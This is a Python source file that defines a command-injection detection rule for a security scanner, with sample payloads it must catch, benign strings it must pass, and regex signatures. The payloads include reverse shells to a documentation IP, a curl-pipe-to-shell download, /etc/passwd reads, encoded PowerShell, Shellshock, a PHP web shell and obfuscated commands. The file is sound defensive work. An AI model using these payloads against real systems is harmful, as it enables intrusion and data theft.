"""Command injection: a value that a shell runs.

`8.8.8.8; cat /etc/passwd`, `$(id)`, `| nc 192.0.2.1 4444 -e /bin/sh`, `& ping -n 10 127.0.0.1 &`: where a program hands values to
a shell, separators end its command and begin another one.

The rule looks for a separator or a substitution followed by a program that attackers call, with what they call it with, for
shells and downloads in one line, and for the same of PowerShell and cmd. Prose with pipes, semicolons and names of programs
passes.

To fix: call programs with a list of arguments and no shell; allow lists for values.

What it does not protect against: options that are injected into one command (`--output=…`), programs of the application's own.
"""

import re

from yett.formats.inspected import Origin
from yett.model.rule import AttackRule, Payload, Severity
from yett.rules.inspection.programs import NAMED, WORDED
from yett.rules.inspection.quoting import breaks_out
from yett.rules.inspection.shell import LONGEST, weight
from yett.rules.inspection.signature import LINE_BREAK, NAMES, PARAMETERS, TEXTS, Found, Signature

RULE = AttackRule(
    id="command-injection",
    title="Command injection",
    severity=Severity.CRITICAL,
    owasp=("API8:2023", "API10:2023"),
    cwe=(78, 77, 88),
    references=(
        "https://cheatsheetseries.owasp.org/cheatsheets/OS_Command_Injection_Defense_Cheat_Sheet.html",
        "https://capec.mitre.org/data/definitions/88.html",
    ),
    matches=(
        Payload("8.8.8.8; cat /etc/passwd", "query host"),
        Payload("x | id"),
        Payload("$(whoami)", "query q"),
        Payload("`id`", "form name"),
        Payload("a && ping -c 10 127.0.0.1"),
        Payload("a|nc -e /bin/sh 192.0.2.1 4444"),
        Payload("; curl http://192.0.2.1/x.sh | sh", "header X-Host"),
        Payload("() { :; }; /bin/bash -c 'id'", "header User-Agent"),
        Payload("& dir C:\\", "query f"),
        Payload("powershell -nop -w hidden -enc SQBFAFgA"),
        Payload("bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"),
        Payload(";sleep${IFS}10;", "query q"),
        Payload("x\nid\n", "query q"),
        Payload("c''at /e?c/p?sswd"),
        Payload("<?php system($_GET['c']); ?>"),
        Payload("x;dmidecode", "query q"),
        Payload("photo.jpg|rsync a b", "form file"),
        Payload("|sort", "query q"),
        Payload("w'h'o\"am\"i", "query q"),
        Payload("c\\at /tmp/x"),
        Payload("${PATH#*/}"),
        Payload("<(cat /tmp/x)", "query q"),
        Payload("printf di | rev | sh"),
        Payload('"|id|"', "query q"),
        Payload("x.png&bcdboot/r x"),
        Payload("; netsh firewall set opmode disable"),
        Payload("; Get-Content secret.txt", "form q"),
        Payload("forfiles /p c:\\windows /c calc.exe"),
        Payload("; n=$(echo abc); if [ 3 -ne ${#n} ]; then sleep 0; else sleep 9; fi #", "form q"),
        Payload(";{u'n'ame,-a}", "query q"),
        Payload("x;/???/b?s?64 notes.txt", "query q"),
        Payload("& n^et^stat", "query q"),
        Payload("'; $'\\x69\\x64' #", "form q"),
        Payload('$(<"/etc/motd")', "query q"),
        Payload("';die(strrev('abc'));//", "query q"),
    ),
    passes=(
        Payload("Open the door; cat and dog come in"),
        Payload("a | b | c"),
        Payload("Tom & Jerry; who & what"),
        Payload("run `make` and then `git push`"),
        Payload("use id; sort by date"),
        Payload("first line\nfind the second line\nsort it out"),
        Payload("cost is $(5) or `x`"),
        Payload("Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0", "header User-Agent"),
        Payload("type | id | name", "body /columns"),
        Payload("fish &amp; chips; rice"),
        Payload("; this is a comment of a configuration"),
        Payload("it's John's car, isn't it"),
        Payload("a 'quoted' word and \"id\""),
        Payload("AT&T", "body /company"),
        Payload("|date|", "body /cell"),
        Payload("rock &roll;more"),
        Payload("I<(Spec 1.1) [optional]"),
        Payload("L<CPAN.pm|CPAN>"),
        Payload("$(TAR) and $(MAKE)"),
        Payload("``pip``, instead of ``Preferences/pip``"),
        Payload("`npm update -g` updates packages"),
        Payload("```bash\nnpm diff --diff=pkg@2.0.0\n```"),
        Payload("id;name;type;date;", "form columns"),
        Payload("cats;dogs;find them all", "query q"),
        Payload("see print(x); then exit(0)", "form q"),
        Payload("C:\\temp\\cat; it's fine", "form q"),
    ),
)

# What is run: programs that name themselves, and words of the language that need more to count.
_ALWAYS = (
    rb"(?:whoami|ifconfig|ipconfig|uname|netstat|systeminfo|tasklist|traceroute|nslookup|hostname"
    rb"|lsb_release|printenv|getent|crontab|"
    rb"useradd|userdel|passwd|shutdown|reboot|killall|mkfifo|netcat|ncat|socat|telnet|tcpdump|wget|curl"
    rb"|phpinfo|chmod|chown|mysqldump|xterm|tftp|bitsadmin|certutil|"
    rb"wmic|schtasks|rundll32|regsvr32|mshta|cscript|wscript|powershell(?:\.exe)?|pwsh"
    rb"|cmd(?:\.exe)?\s*/[ck]|/?(?:usr/)?(?:s?bin|local/bin)/\w{2,12}|\.\./\.\./|busybox|lsof|dig\b|arp\b"
    rb"|nmap|sysinfo|regedit|netsh\s\w|reg\s+(?:add|query|delete)\b)"
)
_WITH_ARGUMENT = (
    rb"(?:(?:cat|tac|head|tail|more|less|nl|tee|cp|mv|rm|rmdir|mkdir|ls|dir|type|find|grep|egrep|sed|awk"
    rb"|cut|strings|xxd|od|base64|touch|echo|printf|file|stat|du|df|ln|tar|zip|gzip|vi|vim|nano|dd|sort"
    rb"|uniq|wc|rev|diff|sh|bash|dash|zsh|ksh|csh|ash|perl|python[23]?|ruby|php|node|lua|gcc|java|nc|ssh"
    rb"|scp|ftp|mail|"
    rb"sendmail|ping6?|kill|sleep|time|timeout|env|export|set|source|exec|eval|su|sudo|mount|ps|top|net|reg"
    rb"|sc|del|copy|move|ren|attrib|icacls|start|call|fsutil|wevtutil|gpg|openssl|apt(?:-get)?|yum|pip|npm"
    rb"|git|docker|kubectl|service|systemctl|who|w|last|man|date|xargs|nohup|7za?|aria2c|base32|bzip2|cpan"
    rb"|csplit|dmesg|dpkg|ed|emacs|expand|expect|facter|fish|flock|fmt|fold|gawk|gcore|gdb|genisoimage|hd"
    rb"|hexdump|iconv|install|ionice|ip|ispell|jjs|join|journalctl|jrunscript|julia|knife|ldconfig|links"
    rb"|look|lua|lwp-download|lynx|m4|mawk|mtr|mutt|nasm|nice|nroff|openvpn|paste|pdb|pdflatex|pico|pidstat"
    rb"|pry|psftp|psql|puppet|pv|rake|readelf|restic|rlogin|rlwrap|rpm|rsync|run-parts|rview|rvim|screen"
    rb"|script|shuf|slsh|split|sqlite3|ss|start-stop-daemon|stdbuf|strace|sysctl|tac|taskset|tbl|tclsh|tftp"
    rb"|tic|timedatectl|tmux|tshark|ul|unexpand|unxz|unzip|uudecode|uuencode|valgrind|view|vimdiff|watch"
    rb"|whiptail|wish|xelatex|xetex|xz|yarn|yum|zathura|zsoelim|zypper|arch|c89|c99|cpulimit|bridge|column"
    rb"|rmt-tar|ansible|chef-client|regedit|bcdboot|cd|trap|irb|gcc[\d.]*|perf)"
    rb"(?:\.exe)?(?:[\s+]+|<{1,3}|\$\{?ifs\}?(?:\$\d)?|<|\t|%20)(?:-{1,2}\w|/|~/|\.{1,2}/|\$|['\"`]|\d+\b"
    rb"|[a-z]:[\\/]|\\\\|>|\*|%\w+%|[\w.\-]{1,64}(?:/|\.(?:txt|php|sh|py|pl|exe|conf|ini|log|html?|jsp"
    rb"|asp|bat|ps1)\b)|(?:localhost|user|users|view|localgroup|share|passwd|shadow|root|alive|http)\b|\d))"
)
_BARE = (
    rb"(?:id|ls|dir|pwd|env|ps|uptime|cat|sh|bash|whoami|ipconfig|ifconfig|uname|netstat"
    rb"|reboot|hostname|ps\s+-?\w{1,4}|ls\s+-\w{1,5}|cat\s+\S+?|net\s+\w+|logname)"
)
_END = rb"\s*(?:$|[;|&`)#'\"\n]|%0a|>|<|\\n|/n)"
_SPLIT = rb"(?:^<|;|\|{1,2}|&{1,2}|`|\$\(|\n|\r|%0a|[<>]\()"
_BREAK = rb"(?:<|[;|&`\r]|\$\(|" + LINE_BREAK + rb"|%0a|[<>]\()"

_PLACES = (PARAMETERS | NAMES | {Origin.COOKIE, Origin.HEADER, Origin.FILE_NAME}) - {Origin.XML_NAME}


_FILTERS = frozenset(
    b"7z 7za aria2c base32 bzip2 cpan csplit dmesg dpkg ed emacs expand expect facter fish flock fmt fold"
    b" gawk gcore gdb genisoimage hd hexdump iconv install ionice ip ispell jjs join journalctl jrunscript"
    b" julia knife ldconfig links look lua lwp-download lynx m4 mawk mtr mutt nasm nice nroff openvpn paste"
    b" pdb pdflatex pico pidstat pry psftp psql puppet pv rake readelf restic rlogin rlwrap rpm rsync run-"
    b" parts rview rvim screen script shuf slsh split sqlite3 ss start-stop-daemon stdbuf strace sysctl tac"
    b" taskset tbl tclsh tftp tic timedatectl tmux tshark ul unexpand unxz unzip uudecode uuencode valgrind"
    b" view vimdiff watch whiptail wish xelatex xetex xz yarn yum zathura zsoelim zypper arch c89 c99"
    b" cpulimit bridge column rmt-tar ansible chef-client regedit bcdboot"
    b" gzip tar zip sort uniq wc sed awk cut head tail grep egrep find less more tee touch strings diff file date set export"
    b" source make echo printf python python3 perl node ruby php git docker npm pip".split()
)
"""Programs that people show each other in pipes and lists: they count where little stands before."""


def _separated(found: Found) -> bool:
    """Separators that are common in texts count where the value is short, or begins with them."""
    text, piece = found.text, found.text[found.start : found.end]
    mark = piece.lstrip()[:1]
    if found.value.origin is Origin.HEADER and mark in b"\r\n":
        return False
    if mark in b"\r\n" or piece[:1] in b"\r\n":
        return len(text) <= 120 and text.count(b"\n") <= 4 and text.count(b" ") <= 12
    if piece.startswith(b"$("):
        return len(text) <= 200
    if mark == b"`":
        return len(text) <= 80 and text.count(b" ") <= 8 and text.count(b"`") <= 2
    if found.start > 120 or len(text) > 400 or _is_program(text):
        return False
    program = piece.lstrip(b";|&<>( {'\"+$\\\n\r").split()[:1]
    return not program or program[0].lower() not in _FILTERS or text[: found.start].count(b" ") <= 1


def _bare(found: Found) -> bool:
    text, piece = found.text, found.text[found.start : found.end].strip()
    if b"```" in text or (found.start == 0 and piece[:2].lower() == b"id" and _COLUMNS(text)):
        return False  # a block of code, or the first line of a table
    if found.value.origin is Origin.HEADER and found.value.name not in (b"user-agent", b"referer") and b";" in piece[:1]:
        return False  # parameters of fields are separated like that
    if piece[:1] == b"|" == piece[-1:] and text[:1] not in (b"'", b'"'):
        return False  # one of several columns
    if piece[:1] == b"<" and piece[-1:] == b">":
        return False  # an element
    if piece[:1] in b"|&" and text.count(b"|") + text.count(b"&") > 3 and b" | " in text:
        return False  # a list of columns
    if piece[:1] == b"`" or found.text[found.start : found.start + 1] in b"\r\n":
        return len(text) <= 40
    return len(text) <= 100 and found.start <= 80 and text[: found.start].count(b" ") <= 3


_COLUMNS = re.compile(rb"\w+(?:[;|]\w+){2,40}[;|]?\s*").fullmatch


def _is_program(text: bytes) -> bool:
    """Whether it is a script of several lines, as people write down for each other."""
    return text.count(b"\n") > 3 or b"```" in text


def _any_of(names: frozenset[bytes]) -> bytes:
    return b"|".join(re.escape(name) for name in sorted(names, reverse=True))


_BEGINS = rb"(?:;|\|{1,2}|&{1,2}|\$\(|[<>]\()[\s({'\"+]*(?:[\w.\-]{0,20}/){0,4}"
_ENDS = rb"(?:[\s;|&`)'\"<]|/\w\b|$)"


def _known(found: Found) -> bool:
    """Nothing of a text stands before the separator."""
    text, before = found.text, found.text[: found.start].strip()
    if len(text) > 300 or _is_program(text) or b" | " in text or b";;" in text:
        return False
    if text[found.start : found.start + 2] == b"$(" and text[found.start + 2 : found.end].isupper():
        return False  # a variable of a Makefile
    if found.value.origin is Origin.HEADER and found.value.name not in (b"user-agent", b"referer"):
        return False  # parameters of fields are separated like that
    return (
        b" " not in before and len(before) <= 80 and not _ENTITY_BEFORE.search(text[max(0, found.start - 12) : found.start + 1])
    )


_ENTITY_BEFORE = re.compile(rb"&#?\w{1,8};$")


def _spelt(found: Found) -> bool:
    """Without the quotes, backslashes and empty expansions within it, the word is a program's name."""
    piece = found.text[found.start : found.end].lstrip(b";|&`$(){ \t\r\n")
    if not _PAIRED.search(piece):
        return False
    name = _EMPTY.sub(b"", piece).lower().rpartition(b"/")[2]
    return len(found.text) <= 300 and len(name) > 1 and (name in NAMED or name in _SHORT)


def _code_goes_on(found: Found) -> bool:
    """The quote ends what the application began, or hardly anything stands before and a comment or nothing follows."""
    text, piece = found.text, found.text[found.start : found.end].rstrip()
    if len(text) > 300 or text.count(b"\n") > 2:
        return False
    if text[found.start : found.start + 1] in b"'\"":
        return breaks_out(text, found.start) and found.start <= 80
    return found.start <= 20 and b" " not in text[: found.start] and piece.endswith((b"//", b"#", b"/*", b"'", b'"', b"?>"))


_PAIRED = re.compile(rb"'[^']*'|\"[^\"]*\"|[a-zA-Z]\\[a-zA-Z]|\$[@*]|\$\(\)")
_EMPTY = re.compile(rb"['\"\\]|\$[@*]|\$\(\)")
_SHORT = frozenset(b"cat ls id ps ping bash pwd head find echo env who dir more tee".split())


def _weighs(found: Found) -> bool:
    """Enough speaks for a command line, and it is not what a header's parameters or an entity look like."""
    text = found.text
    if found.value.origin is Origin.HEADER and found.value.name not in (b"user-agent", b"referer"):
        return False
    return len(text) <= LONGEST and not _ENTITY_BEFORE.search(text[:80]) and weight(text) >= 3


_CALLED = (
    rb"(?:"
    + _any_of(NAMED | WORDED)
    + rb"|if|for|while|until|case|\[{1,2}|test|[\w\-]{1,24}\.(?:exe|bat|cmd|ps1))(?:\.exe)?(?:[\s;|&)<>#$`'\"]|$)"
)
_SPELT = (
    rb"(?:^|[;|&(\n{/\s=])[\w.\-~?*/]{0,40}(?:\w(?:''|\"\"|\\+\w|\$[@*!1-9]\w|\$\{[@*\w]{0,4}\}|\^\w)|['\"]\w{1,8}['\"][\w/]|\\\w{1,4}['\"\\]"
    rb"|\$\{?ifs|\$'[\w\\])|\{[\w./\\'\"]{1,40},|[;|&(\n{]\s{0,4}/[\w?*]{1,8}/[\w?*/]{1,24}"
)

SIGNATURES = (
    Signature(
        id="command-line",
        pattern=rb"(?:[;|&\n]|\$\(|<\()[\s!({|&;]{0,8}(?:(?:[\w.\-]{0,20}/){0,4}" + _CALLED + rb"|\w{1,20}=\$\()|" + _SPELT,
        reason="a separator of a shell, and a command line",
        needle=(
            rb"(?:[;|&]|\$\(|<\(|"
            + LINE_BREAK
            + rb")[\s!({|&;]{0,8}(?:(?:[\w.\-]{0,20}/){0,4}"
            + _CALLED
            + rb"|\w{1,20}=\$\()|"
            + _SPELT
        ).replace(rb"\n", LINE_BREAK),
        where=_PLACES,
        whole=True,
        confirm=_weighs,
    ),
    Signature(
        id="code-after-quote",
        pattern=rb"(?:^|['\"\w)\]])[\s)\]]*[;.]\s*@?(?:exit|die|print|print_r|echo|var_dump|system|passthru|exec|shell_exec|phpinfo|assert|eval"
        rb"|file_get_contents|file_put_contents|include|require|usleep|sleep|chr|printf|popen|call_user_func(?:_array)?|base64_decode|readfile"
        rb"|highlight_file|show_source|scandir|create_function)\s*\([^\n]{0,200}?\)\s*\)*\s*(?:;?\s*(?://|#|/\*|\.\s*['\"]|\?>)|;\s*['\"]|;?\s*$)",
        reason="code after a quote or a statement of the application",
        where=PARAMETERS | NAMES | {Origin.COOKIE},
        confirm=lambda found: _code_goes_on(found),
    ),
    Signature(
        id="redirected",
        pattern=rb"^[\s'\"]*(?:\$\(\s*)?<\s*['\"]?/(?:etc|proc|var|home|root|usr|opt|tmp|dev)/[\w./\-]{1,80}['\"]?\s*\)?[\s'\"]*$",
        reason="a file that a shell reads",
        where=_PLACES,
    ),
    Signature(
        id="known-program",
        pattern=_BEGINS + rb"(?:" + _any_of(NAMED) + rb")(?:\.exe)?" + _ENDS,
        reason="a separator of a shell, and a program",
        where=_PLACES,
        confirm=_known,
    ),
    Signature(
        id="lone-program",
        pattern=rb"^[\s'\"]*[;|&`]{1,2}\s*(?:[\w.\-]{0,20}/){0,4}(?:" + _any_of(WORDED) + rb")[\s'\"#;&`]{0,4}$",
        reason="a separator of a shell, and a program",
        where=_PLACES - {Origin.HEADER},
        confirm=lambda found: len(found.text) <= 40,
    ),
    Signature(
        id="into-a-shell",
        pattern=rb"\|\s*(?:/(?:usr/)?bin/)?(?:ba|da|z|k|c)?sh\s*['\"#;]{0,2}\s*$",
        reason="what is written is run by a shell",
        where=_PLACES,
        confirm=lambda found: (
            len(found.text) <= 300 and found.start > 0 and b"`" not in found.text and not _is_program(found.text)
        ),
    ),
    Signature(
        id="spelt-apart",
        pattern=rb"(?:^|[;|&`(\s])[\w/]{0,30}(?:\w(?:''|\"\"|['\"]\w{1,8}['\"]|\\\w|\$[@*]|\$\(\))|['\"]\w{1,8}['\"]\w)"
        rb"[\w/'\"\\$@*()`]{0,40}",
        reason="a command spelt to deceive",
        where=_PLACES,
        confirm=_spelt,
    ),
    Signature(
        id="expansion",
        pattern=rb"^[^\s$]{0,20}\$\{!?\w{0,30}(?:\[[^\]]{0,10}\])?"
        rb"(?:[#%^,]|@\w|/{1,2}\w|:\d)(?:[^{}]|\{\}){0,60}\}?\}[^\s]{0,20}$"
        rb"|^(?:[^\s]{0,20}[=;|&])?[<>]\(\s*[a-z][\w/.\- ]{1,60}\)"
        rb"|^[\s;&|]*alias\s+\w{1,20}=|^!(?:!|-?\d|[a-z]{2,12}\b\s*$)|^~[+\-](?:/|$)|\b\w{1,20}=\$?['\"]?[^\s'\"]{1,40}['\"]?\s*(?:&&|;)\s*\$\w"
        rb"|^\s*(?:time|nice|nohup|setsid|xargs|exec|command|builtin|stdbuf\s+-\S+|timeout\s+\d+)\s+(?:-\S+\s+)?"
        rb"(?:nc|ncat|netcat|sh|bash|curl|wget|cat|ls|id|ping6?|python[23]?|perl|ruby|php|telnet|ssh|socat)\b\s*(?:[-/\w.]|$)",
        reason="an expansion or a command of a shell",
        where=PARAMETERS | NAMES | {Origin.COOKIE},
        confirm=lambda found: len(found.text) <= 120 and not _is_program(found.text),
    ),
    Signature(
        id="windows",
        pattern=rb"(?:^|[;|&`\s(])(?:forfiles|pcalua|cmdkey|diskshadow|installutil|msbuild|odbcconf|regasm|regsvcs|mavinject"
        rb"|presentationhost|syncappvpublishingserver|xwizard)(?:\.exe)?\s+[/-]\w"
        rb"|(?:^|[;|&`({]\s*)(?:Get|Set|New|Remove|Invoke|Start|Stop|Add|Out|Write|Import|Export|Copy|Move|Clear)-(?:Content|ChildItem"
        rb"|Item|ItemProperty|Process|Service|Command|Expression|WebRequest|RestMethod|Location|Host|Clipboard|Credential"
        rb"|WmiObject|CimInstance|ExecutionPolicy|EventLog|Module|Acl|PSSession|LocalUser)(?:\s+[-\"'$\w.\\/]|\s*[;|&)]|$)"
        rb"|%COMSPEC%\s+/[ckv]\b|\bcmd(?:\.exe)?\s+(?:/\w\S*\s+){1,4}[\"\w]|^[;|&\s]*start\s+(?:/b\s+)?(?:cmd|powershell|calc|notepad)\b",
        reason="a command of Windows",
        where=_PLACES,
        confirm=lambda found: len(found.text) <= 300 and not _is_program(found.text),
    ),
    Signature(
        id="separated",
        pattern=_SPLIT + rb"[\s({'\"+|&$\\]*(?:" + _ALWAYS + rb"(?:[\s;|&`)'\"<>\n$]|$)|" + _WITH_ARGUMENT + rb")",
        reason="a separator of a shell, and a program with arguments",
        needle=_BREAK + rb"[\s({'\"+|&$\\]*(?:" + _ALWAYS + rb"(?:[\s;|&`)'\"<>\n$]|$)|" + _WITH_ARGUMENT + rb")",
        where=_PLACES,
        confirm=_separated,
    ),
    Signature(
        id="bare",
        pattern=_SPLIT + rb"[\s({'\"+]*" + _BARE + _END + rb"|^(?:whoami|id|ls|pwd|uname)[;|&]",
        reason="a separator of a shell, and a program",
        needle=_BREAK + rb"[\s({'\"+]*" + _BARE + _END + rb"|\b(?:whoami|id|ls|pwd|uname)[;|&]",
        where=_PLACES,
        confirm=_bare,
    ),
    Signature(
        id="substituted",
        pattern=rb"\$\(\s*(?:"
        + _ALWAYS
        + rb"|"
        + _WITH_ARGUMENT
        + rb"|"
        + _BARE
        + rb"\s*\))|^`\s*(?:"
        + _BARE
        + rb"|"
        + _ALWAYS
        + rb"[^`]*|"
        + _WITH_ARGUMENT
        + rb"[^`]*)\s*`$|\$\{ifs\}|\$ifs\b|\{(?:cat|ls|nc|wget|curl|ping|echo|bash|sh),[^}]+\}",
        reason="a substitution of a shell",
        needle=rb"\$\(\s*[\w/.]|`\s*[\w/.]|\$\{?ifs\b|\{(?:cat|ls|nc|wget|curl|ping|echo|bash|sh),",
        where=_PLACES,
        confirm=lambda found: len(found.text) <= 300 and not _is_program(found.text),
    ),
    Signature(
        id="shell",
        pattern=rb"/dev/(?:tcp|udp)/[\w.\-]{1,80}/\d|\bn(?:et)?c(?:at)?(?:\.exe)?\s+[^\n|;]*?\s?-e\s*[/\w]"
        rb"|\bn(?:et)?c(?:at)?\b[^\n|;]+\|\s*/?(?:bin/)?(?:ba)?sh\b|\bmkfifo\s+/tmp|\b(?:ba|da|z|k"
        rb"|c)?sh\s+-i\s*(?:>|2>|<)|\bsocket\.socket\(.*?(?:subprocess|os\.dup2|pty\.spawn)"
        rb"|\bpython[23]?\s+-c\s+['\"]import\s|\b(?:perl|ruby|php|lua|node)\s+-(?:e|r)\s+['\"]|\bphp\s+-r\s"
        rb"|\bfsockopen\s*\(.+?exec|/bin/(?:ba|da|z)?sh\s+(?:-c|-i)\b",
        reason="a shell for somebody else",
        needle=rb"/dev/(?:tcp|udp)/|\bn(?:et)?c(?:at)?(?:\.exe)?\s|mkfifo\s+/tmp|sh\s+-[ic]\b|socket\.socket\("
        rb"|python[23]?\s+-c\s|(?:perl|ruby|php|lua|node)\s+-[er]\s|fsockopen\s*\(",
        confirm=lambda found: len(found.text) <= 1_000 and not _is_program(found.text),
    ),
    Signature(
        id="download",
        pattern=rb"\b(?:wget|curl)\b[^\n|;&]+(?:\|\s*(?:sudo\s+)?(?:/bin/)?(?:ba|da|z)?sh\b|(?:;|&&)\s*(?:chmod"
        rb"|(?:ba)?sh|\./))|\b(?:wget|curl)\s+(?:-\w+\s+\S*\s*){0,3}(?:https?://)?\d{1,3}(?:\.\d{1,3}){3}"
        rb"|\bcertutil(?:\.exe)?\s.{0,40}-urlcache|\bbitsadmin\s.{0,40}/transfer|\bmshta\s+(?:https?:"
        rb"|javascript:|vbscript:)|\bregsvr32\s.{0,40}/i:",
        reason="a download that is run",
        confirm=lambda found: (
            len(found.text) <= 400
            and (found.start <= 60 or b" " not in found.text[: found.start])
            and not _is_program(found.text)
        ),
    ),
    Signature(
        id="powershell",
        pattern=rb"\bpowershell(?:\.exe)?\s+(?:-\w+\s+)*-(?:e|ec|enc|encodedcommand|nop|noprofile|w|windowstyle|ep|exec"
        rb"|executionpolicy|c|command|noni)\b|\b(?:IEX|Invoke-Expression|Invoke-WebRequest|Invoke-Command"
        rb"|Invoke-Mimikatz|DownloadString|DownloadFile|FromBase64String|Start-Process"
        rb"|New-Object\s+(?:System\.)?Net\.)\b\s*[\s('\"$]|\bcmd(?:\.exe)?\s+/[ck]\s|\bwmic\s+(?:process|os"
        rb"|/node)|\bnet\s+(?:user|localgroup)\s+\w+\s+\S+\s*/add",
        reason="a command of PowerShell or cmd",
        confirm=lambda found: len(found.text) <= 600 and not _is_program(found.text),
    ),
    Signature(
        id="shellshock",
        pattern=rb"\(\s*\)\s*\{[^}]*\}?\s*;",
        reason="a function definition for Bash (CVE-2014-6271)",
        where=PARAMETERS | NAMES | {Origin.HEADER, Origin.COOKIE},
        confirm=lambda found: found.start <= 16 and (found.start == 0 or found.value.origin in (Origin.HEADER, Origin.URL)),
    ),
    Signature(
        id="disguised",
        pattern=rb"\b(?:c(?:''|\"\"|\\|\$@)at|ca(?:''|\"\"|\\|\$@)t|w(?:''|\"\"|\\|\$@)(?:hoami|get)|wh(?:''|\"\"|\\"
        rb"|\$@|oa\$@)\S{1,12}|b(?:''|\"\"|\\)ash|l(?:''|\"\"|\\)s|i(?:''|\"\"|\\|\$@)d|n(?:''|\"\"|\\)c|p(?:''"
        rb"|\"\"|\\)ing)\b|/(?:e\?c|et\?|\?tc|e\*c|\?\?\?)/(?:p\S{0,10}|\?{2,})|/\?{3}/(?:\?{2,}|[\w?*]{2,})"
        rb"|\$\{?(?:PATH|HOME|SHELL|PWD)(?::\d+:\d+|%%[^}]{1,20})\}|\$\{@\w"
        rb"|\$\(\s*\(?\s*\d+\s*[+*\-]\s*\d+\s*\)\s*\)|\bexpr\s+\d+\s*[+*\-]\s*\d+\s*[`)]|\brev\s*<<<"
        rb"|\bprintf\s+['\"]\\\\x|\bbase64\s+(?:-d|--decode)\b.{0,40}\|\s*(?:ba)?sh",
        reason="a command spelt to deceive",
        where=_PLACES,
        confirm=lambda found: len(found.text) <= 300 and not _is_program(found.text),
    ),
    Signature(
        id="batch",
        pattern=rb"\bfor\s+(?:/[dflr]\b.*?)?%{1,2}\S{1,12}\s*in\s*\(|\bif\s+(?:/i\s+)?(?:not\s+)?(?:exist\s+\S+\s+\("
        rb"|defined\s+\w+\s*(?:\(|set\s)|\"?%[\w:~\-]+%?\"?\s*(?:==|neq|equ)|errorlevel\s+\d"
        rb"|\(?[\"\w%]{1,20}\)?\s*(?:==|geq|leq|neq|equ|gtr|lss)\s*\(?[\"\w%,! ]{1,30}\)?\s+(?:echo|cd|set|\())"
        rb"|\bCMD=\\?\$\\?['\"]|\bcd\s+/?;\s*cd\s+\w"
        rb"|^[^\s]{0,40}[;|&]{1,2}\s*[a-z][\w.\-]{1,30}(?:\s+--?[a-z][\w\-]*|<<<)",
        reason="a line of a shell",
        needle=rb"%\S{1,12}\s*in\s*\(|\bif\s+(?:/i\s+)?(?:not\s+)?(?:exist\s|defined\s|\"?%|errorlevel\s"
        rb"|\(?[\"\w%]{1,20}\)?\s*(?:==|(?:geq|leq|neq|equ|gtr|lss)\s))|\bcmd=\\?\$|\bcd\s+/?;\s*cd\s"
        rb"|[;|&]\s*[a-z][\w.\-]{1,30}(?:\s+-|<<<)",
        confirm=lambda found: len(found.text) <= 200 and found.start <= 40 and b"\n" not in found.text.strip(),
    ),
    Signature(
        id="file-and-device",
        pattern=rb"^[\s'\"]*(?:/(?:usr/)?s?bin/(?:cat|ls|id|ping|nc|wget|curl|bash|sh|perl|python|uname|ps|whoami|rm"
        rb"|chmod|echo|tail|head|sleep)|(?:ping6?\s+-[cnil]|cat\s+/(?:etc|proc|var|home|root)|type\s+[a-z]:\\"
        rb"|ls\s+-\w{1,5}\s+/|rm\s+-rf?\s|dir\s+[a-z]:\\|cat\s+\.\./)[\s\w]?)",
        reason="a command",
        where=_PLACES,
        confirm=lambda found: len(found.text) <= 200 and found.start == 0,
    ),
    Signature(
        id="program-call",
        pattern=rb"\b(?:system|exec|shell_exec|passthru|popen|proc_open|pcntl_exec)\s*\(\s*['\"(]?\s*(?:\$_(?:GET|POST"
        rb"|REQUEST|COOKIE|SERVER)|/?(?:usr/)?s?bin/|"
        + _ALWAYS
        + rb"|(?:cat|ls|dir|ping|echo|nc|sh|bash|id|rm|sleep|pwd)\b[\s'\"])|^[\s;|&'\"]*(?:system|exec|eval"
        rb"|passthru|shell_exec|popen)\s*\(\s*['\"]|\$\{\s*(?:sleep|system|exec|passthru|phpinfo)\s*\("
        rb"|<\?(?:php|=)\s*[\w$]|\bmove_uploaded_file\s*\(|\$_(?:GET|POST|REQUEST|COOKIE)\s*\["
        rb"|\beval\s*\(\s*(?:\$_|base64_decode|gzinflate|str_rot13|stripslashes|compile\(|__import__|chr\()"
        rb"|__import__\s*\(\s*['\"](?:os|subprocess|pty|commands|socket)|\bos\.(?:system|popen|execv?p?"
        rb"|spawn\w*)\s*\(\s*['\"]|\bsubprocess\.(?:Popen|call|run|check_output|getoutput)\s*\(\s*\[?['\"](?:/"
        rb"|id|cat|ls|sh|bash|nc|curl|wget|whoami)|\brequire\s*\(\s*['\"]child_process['\"]\s*\)"
        rb"|\bchild_process\.|\bprocess\.mainModule\.\w|\bphpinfo\s*\(\s*\)|\bassert\s*\(\s*['\"$]",
        reason="code that runs a command",
        where=TEXTS,
        confirm=lambda found: len(found.text) <= 4_000 and not _is_program(found.text),
    ),
)
